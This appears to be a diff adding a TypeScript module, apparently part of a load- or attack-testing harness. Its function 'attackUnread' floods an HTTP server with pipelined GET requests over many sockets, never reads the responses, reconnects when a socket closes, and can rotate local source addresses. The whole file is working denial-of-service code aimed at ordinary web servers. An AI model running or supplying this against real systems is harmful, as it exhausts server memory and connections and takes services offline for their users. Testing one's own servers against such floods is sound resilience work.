@@ -1,0 +1,71 @@
+/** Clients that ask without end and read nothing. */
+import { connect, type Socket } from "node:net";
+import { setTimeout as pause } from "node:timers/promises";
+import { addressOfNetwork } from "./ask.ts";
+
+export interface UnreadOptions {
+  readonly sockets: number;
+  readonly path: string;
+  /** Milliseconds. */
+  readonly duration: number;
+  /** Whether each sends request after request, or one alone. */
+  readonly pipelined: boolean;
+  /** Whether a client that is hung up on comes again. */
+  readonly comesAgain?: boolean;
+  readonly networks?: number;
+}
+
+export interface UnreadResult {
+  /** Connections that were begun. */
+  readonly connections: number;
+  readonly bytesSent: number;
+  /** How many still stood at the end. */
+  readonly open: number;
+}
+
+const REQUESTS_PER_WRITE = 2000;
+
+/** Opens the sockets and writes for as long as the server takes it, reading nothing. */
+export async function attackUnread(
+  origin: string,
+  { sockets, path, duration, pipelined, comesAgain = false, networks = 1 }: UnreadOptions,
+): Promise<UnreadResult> {
+  const { hostname, port, host } = new URL(origin);
+  const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
+  const bytes = Buffer.from(request.repeat(pipelined ? REQUESTS_PER_WRITE : 1));
+  const open = new Set<Socket>();
+  let connections = 0;
+  let bytesSent = 0;
+  let stopped = false;
+
+  function begin(number: number): void {
+    const localAddress = addressOfNetwork(number, networks);
+    const socket = connect({ port: Number(port), host: hostname, ...(localAddress && { localAddress }) });
+    socket.pause();
+    connections += 1;
+    open.add(socket);
+    const write = () => {
+      while (!stopped && socket.writable) {
+        const goesOn = socket.write(bytes);
+        if (!pipelined || !goesOn) return;
+      }
+    };
+    socket.on("connect", write);
+    if (pipelined) socket.on("drain", write);
+    socket
+      .on("error", () => undefined)
+      .on("close", () => {
+        open.delete(socket);
+        bytesSent += socket.bytesWritten;
+        if (comesAgain && !stopped) setTimeout(begin, 10, number);
+      });
+  }
+
+  for (let number = 0; number < sockets; number += 1) begin(number);
+  await pause(duration);
+  stopped = true;
+  const left = open.size;
+  for (const socket of open) socket.destroy();
+  while (open.size > 0) await pause(10);
+  return { connections, bytesSent, open: left };
+}
